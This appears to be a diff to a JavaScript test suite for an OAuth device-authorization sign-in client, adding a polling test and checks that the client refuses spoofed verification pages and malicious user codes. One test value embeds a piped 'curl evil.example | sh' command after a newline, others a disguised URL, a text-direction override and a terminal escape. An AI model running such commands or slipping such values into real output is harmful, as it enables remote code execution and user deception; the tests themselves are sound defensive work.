@@ -100,6 +100,12 @@ describe('The device authorization grant', () => {
       atS: [5, 10],
     },
     {
+      name: 'each second if it is told to look all the time',
+      answers: [pending, token],
+      authorization: { ...offer, interval: 0 },
+      atS: [1, 2],
+    },
+    {
       name: 'five seconds later each time once it is told to slow down',
       answers: [{ status: 400, body: { error: 'slow_down' } }, pending, token],
       atS: [5, 15, 25],
@@ -168,11 +174,21 @@ describe('The device authorization grant', () => {
     'vscode://evil',
     'javascript:alert(1)',
     'http://login.example/',
+    'https://app.all-hands.dev@evil.example/',
     'nothing',
   ];
   for (const page of pages) {
     it(`does not show the page ${page}`, async () => {
       await serve([token], { ...offer, verification_uri_complete: page });
+
+      await assert.rejects(signIn(), { code: 'protocol' });
+      assert.deepEqual(codes, []);
+    });
+  }
+
+  for (const code of ['AB\ncurl evil.example | sh\n', 'AB\u202eCD', '\u001b[2J', '']) {
+    it(`does not show the code ${JSON.stringify(code)}`, async () => {
+      await serve([token], { ...offer, user_code: code });
 
       await assert.rejects(signIn(), { code: 'protocol' });
       assert.deepEqual(codes, []);
